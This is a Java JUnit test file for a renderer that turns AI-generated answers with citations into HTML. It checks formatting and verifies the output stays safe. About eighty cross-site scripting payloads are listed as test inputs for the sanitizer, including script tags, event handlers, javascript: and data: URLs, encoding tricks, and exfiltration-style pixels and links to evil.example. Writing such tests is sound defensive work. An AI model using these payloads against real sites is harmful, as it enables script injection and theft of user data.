package io.zhiwen.conversation;

import static org.assertj.core.api.Assertions.assertThat;

import io.zhiwen.ask.Samples;
import io.zhiwen.ask.cite.Citation;
import io.zhiwen.ask.cite.Citations;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class AnswerHtmlTest {

    private static final List<Citation> TWO =
            Citations.of(List.of(Samples.passage(1, "one", 1), Samples.passage(2, "two", 1)));

    private final AnswerHtml html = new AnswerHtml();

    @Test
    void aSentenceNothingBearsOutIsUnderlinedToItsMark() {
        assertThat(html.blocks("It is 21 days. You *never* lose 30 days [1][?]. Ask [?] us.", TWO))
                .containsExactly(
                        "<p>It is 21 days. <span class=\"doubtful\">You <em>never</em> lose 30 days"
                                + ref("cite\" type=\"button\" data-n=\"1", "1")
                                + ref("doubt\" type=\"button", "?")
                                + "</span>. <span class=\"doubtful\">Ask"
                                + ref("doubt\" type=\"button", "?")
                                + "</span> us.</p>\n");
        assertThat(html.blocks("年假是21天[1]。保修期为五年[?]。", TWO).getFirst())
                .contains("21天<span class=\"ref\"><button")
                .contains(
                        "。<span class=\"doubtful\">保修期为五年<span class=\"ref\"><button class=\"doubt\"");
        assertThat(html.blocks("a document's own \\[?]", TWO).getFirst()).doesNotContain("doubt");
    }

    @Test
    void aCitationIsAChipAndAnUnknownNumberIsText() {
        assertThat(html.blocks("Leave is 21 days [1][2], not [3].", TWO))
                .containsExactly(
                        "<p>Leave is 21 days"
                                + ref("cite\" type=\"button\" data-n=\"1", "1")
                                + ref("cite\" type=\"button\" data-n=\"2", "2")
                                + ", not [3].</p>\n");
    }

    private static String ref(String kind, String said) {
        return "<span class=\"ref\"><button class=\"%s\">%s</button></span>".formatted(kind, said);
    }

    @Test
    void aNumberThatADocumentItselfWritesInBracketsIsNoChip() {
        assertThat(html.blocks("Numbers such as \\[1\\] are citations.[1]", TWO).getFirst())
                .containsOnlyOnce("<button")
                .contains("Numbers such as [\u20601] are");
    }

    @Test
    void eachTopLevelBlockIsOneStringAndEarlierOnesStayTheSameWhileTheTextGrows() {
        String text =
                "# Leave\n\nIt is *21* days [1].\n\n- a\n- b\n\n| x | y |\n|:-|-:|\n| 1 | 2 |\n";
        List<String> all = html.blocks(text, TWO);
        assertThat(all).hasSize(4);
        assertThat(all.getFirst()).contains("<h3>Leave</h3>");
        assertThat(all.get(3)).contains("<table>", "<td align=\"right\">2</td>");
        List<String> before = html.blocks(text.substring(0, text.indexOf("- a") + 2), TWO);
        assertThat(all.subList(0, 2)).isEqualTo(before.subList(0, 2));
    }

    @Test
    void aCornerWithoutWordsIsNoHeading() {
        assertThat(html.blocks("|  | Days |\n|--|--|\n| A | 10 |\n", TWO).getFirst())
                .contains("<td></td>", "<th>Days</th>")
                .doesNotContain("<th></th>");
    }

    @Test
    void aModelThatBeginsWithADeepHeadingSkipsNoLevel() {
        assertThat(html.blocks("### Leave", TWO)).containsExactly("<h3>Leave</h3>\n");
    }

    @Test
    void codeIsShownAsItIs() {
        assertThat(html.blocks("```java\nint x = a[1]; // <b>\n```", TWO))
                .containsExactly(
                        "<pre><code class=\"language-java\">int x &#61; a[1]; // &lt;b&gt;\n"
                                + "</code></pre>\n");
    }

    @Test
    void aLinkShowsItsHostAndGivesNothingAway() {
        assertThat(html.blocks("[our site](https://example.org/a?b=c)", TWO).getFirst())
                .contains("href=\"https://example.org/a?b&#61;c\"")
                .contains("rel=\"noopener noreferrer nofollow\"")
                .contains("target=\"_blank\"")
                .contains(">our site</a> <span class=\"host\">example.org</span>");
    }

    @Test
    void aDefinitionMakesNoLinkOfACitation() {
        String rendered =
                String.join(
                        "", html.blocks("See [1] and [x][1].\n\n[1]: https://evil.example/", TWO));
        assertThat(rendered)
                .doesNotContain("<a ")
                .contains("data-n=\"1\"")
                .contains("evil.example");
    }

    @Test
    void anImageIsItsWordsOnly() {
        assertThat(html.blocks("![the plan](https://evil.example/p.png?q=secret)", TWO))
                .containsExactly("<p>the plan</p>\n");
    }

    /// Renders each as a whole, in a list, a table and a heading, and cut at every place a stream
    /// may pause: nothing active may come out of any of them.
    @ParameterizedTest
    @MethodSource("attacks")
    @DisplayName("T2: nothing active comes out of an answer, wherever its stream is cut")
    void nothingActiveComesOut(String attack) {
        List<String> variants = new ArrayList<>();
        variants.add(attack);
        variants.add("- " + attack);
        variants.add("> " + attack);
        variants.add("# " + attack);
        variants.add("| a |\n|---|\n| " + attack.replace("\n", " ") + " |");
        for (int cut = 1; cut < attack.length(); cut++) {
            variants.add(attack.substring(0, cut));
        }
        for (String variant : variants) {
            assertHarmless(String.join("", html.blocks(variant, TWO)));
        }
    }

    @Test
    @DisplayName("T2: no tag with a handler comes out, however the two are written")
    void noTagWithAHandlerComesOut() {
        int attacks = 0;
        for (String tag :
                List.of("img src=x", "svg", "audio src", "input", "body", "x", "a href=#")) {
            for (String handler :
                    List.of("onerror", "ONLOAD", "onfocus", "onpointerenter", "ontoggle")) {
                for (String gap : List.of(" ", "/", "\t", "\f", "\n", "/ /")) {
                    String attack =
                            "<" + tag + gap + handler + "=\"alert(1)\" autofocus tabindex=1>";
                    attacks++;
                    assertHarmless(String.join("", html.blocks(attack, TWO)));
                    assertHarmless(
                            String.join("", html.blocks("21 days " + attack + " [1].", TWO)));
                }
            }
        }
        assertThat(attacks).isEqualTo(210);
    }

    @Test
    void deepNestingAndLongLinesTakeNoTime() {
        long begun = System.nanoTime();
        html.blocks("> ".repeat(20_000) + "x", TWO);
        html.blocks("[".repeat(20_000), TWO);
        html.blocks("*a ".repeat(20_000), TWO);
        html.blocks("`".repeat(20_000), TWO);
        html.blocks("|".repeat(20_000) + "\n" + "|-".repeat(10_000), TWO);
        assertThat(System.nanoTime() - begun).isLessThan(30_000_000_000L);
    }

    /// What a browser would make of it: every tag, its name and its attributes.
    private static void assertHarmless(String rendered) {
        var tags = java.util.regex.Pattern.compile("<(/?)([^\\s/>]+)([^>]*)>").matcher(rendered);
        while (tags.find()) {
            String tag = tags.group(2).toLowerCase(Locale.ROOT);
            assertThat(tag)
                    .as(rendered)
                    .isIn(
                            "p",
                            "br",
                            "hr",
                            "strong",
                            "em",
                            "blockquote",
                            "ul",
                            "ol",
                            "li",
                            "h3",
                            "h4",
                            "h5",
                            "h6",
                            "pre",
                            "code",
                            "table",
                            "thead",
                            "tbody",
                            "tr",
                            "th",
                            "td",
                            "a",
                            "span",
                            "button");
            var attributes =
                    java.util.regex.Pattern.compile("([\\w-]+)=\"([^\"]*)\"")
                            .matcher(tags.group(3));
            int covered = 0;
            while (attributes.find()) {
                covered += attributes.group().length();
                String name = attributes.group(1);
                assertThat(name)
                        .as(rendered)
                        .isIn("class", "type", "data-n", "href", "rel", "target", "align", "start");
                if (name.equals("href")) {
                    assertThat(attributes.group(2)).as(rendered).matches("(https?://|mailto:).*");
                }
            }
            String rest = tags.group(3).replaceAll("[\\w-]+=\"[^\"]*\"", "").strip();
            assertThat(rest).as(rendered).isIn("", "/");
            assertThat(covered).isGreaterThanOrEqualTo(0);
        }
        assertThat(rendered.replaceAll("<[^>]*>", "")).as(rendered).doesNotContain("<");
    }

    static List<String> attacks() {
        return List.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"https://evil.example/?q=secret\">",
                "&#105;mg <&#105;mg src=x>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<math><mtext></mtext><mglyph><style><!--</style><img src onerror=alert(1)>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
                "<embed src=javascript:alert(1)>",
                "<link rel=stylesheet href=//evil.example/x.css>",
                "<style>@import '//evil.example/x.css'</style>",
                "<base href=//evil.example/>",
                "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
                "<form action=//evil.example><input name=x><button>go</button></form>",
                "<button class=\"cite\" onclick=\"alert(1)\" data-n=\"1\">1</button>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<div style=\"background:url(javascript:alert(1))\">x</div>",
                "<video><source onerror=alert(1)></video>",
                "<details open ontoggle=alert(1)>x</details>",
                "<body onload=alert(1)>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<!--><img src=x onerror=alert(1)>-->",
                "<![CDATA[><script>alert(1)</script>]]>",
                "<?xml version=\"1.0\"?><x/>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](java\tscript:alert(1))",
                "[x](&#106;avascript:alert(1))",
                "[x](javascript&colon;alert(1))",
                "[x](%6aavascript:alert(1))",
                "[x]( javascript:alert(1))",
                "[x](\u0001javascript:alert(1))",
                "[x](vbscript:msgbox(1))",
                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
                "[x](file:///etc/passwd)",
                "[x](//evil.example/protocol-relative)",
                "[x](/admin/users?delete=1)",
                "[x](blob:https://evil.example/1)",
                "[x](https://user:password@evil.example/)",
                "[x](https://evil.example/ \"onmouseover=alert(1)\")",
                "[x](<https://evil.example/\" onmouseover=\"alert(1)>)",
                "[1](javascript:alert(1))",
                "[1]: javascript:alert(1)\n\n[1]",
                "[1]: data:text/html,x \"t\"\n\n[x][1]",
                "![x](https://evil.example/pixel.png)",
                "![x](javascript:alert(1))",
                "![x][img]\n\n[img]: https://evil.example/pixel.png",
                "[![x](https://evil.example/a.png)](https://evil.example/)",
                "<javascript:alert(1)>",
                "<https://evil.example/\"onmouseover=alert(1)>",
                "<data:text/html,x>",
                "```\"><script>alert(1)</script>\ncode\n```",
                "```java\" onclick=\"alert(1)\ncode\n```",
                "~~~<img src=x onerror=alert(1)>\ncode\n~~~",
                "`<img src=x onerror=alert(1)>`",
                "**<script>alert(1)</script>**",
                "*[x](javascript:alert(1))*",
                "1. <img src=x onerror=alert(1)>",
                "99999999999999999999. x",
                "a | b\n--|--\n<script>alert(1)</script> | [x](javascript:alert(1))",
                "\u202E<script>alert(1)</script>",
                "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "＜script＞alert(1)＜/script＞",
                "\\<script>alert(1)\\</script>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "<x onclick=alert(1)>[1]</x>",
                "[1<img src=x onerror=alert(1)>]",
                "[<img src=x onerror=alert(1)>](https://example.org)",
                "<a\nhref=javascript:alert(1)>x</a>",
                "<img/src='x'/onerror=alert(1)>",
                "<<script>alert(1)//<</script>",
                "<template><script>alert(1)</script></template>",
                "<portal src=//evil.example>",
                "<xmp><img src=x onerror=alert(1)></xmp>",
                "<textarea><img src=x onerror=alert(1)></textarea>",
                "<plaintext><script>alert(1)</script>");
    }

    @Test
    void formulasAreKeptWholeAndMoneyIsMoney() {
        assertThat(rendered("Area $a_1 \\cdot b_2$ and \\(x*y \\times z\\)."))
                .contains("<span class=\"formula\">a_1 \\cdot b_2</span>")
                .contains("<span class=\"formula\">x*y \\times z</span>");
        assertThat(rendered("So\n\n$$\nE = mc^2 < \\infty\n$$"))
                .contains("<span class=\"formula alone\">E &#61; mc^2 &lt; \\infty</span>");
        assertThat(rendered("From $5 to $10, or 3$ and 4$ each; \\$x^2\\$; \\[1\\] \\(a*b\\)."))
                .doesNotContain("formula")
                .contains("$5 to $10");
        assertThat(rendered("$\\href{javascript:alert(1)}{x}$"))
                .contains("<span class=\"formula\">");
    }

    private static String rendered(String text) {
        return String.join("", new AnswerHtml().cited(text, Set.of()));
    }
}
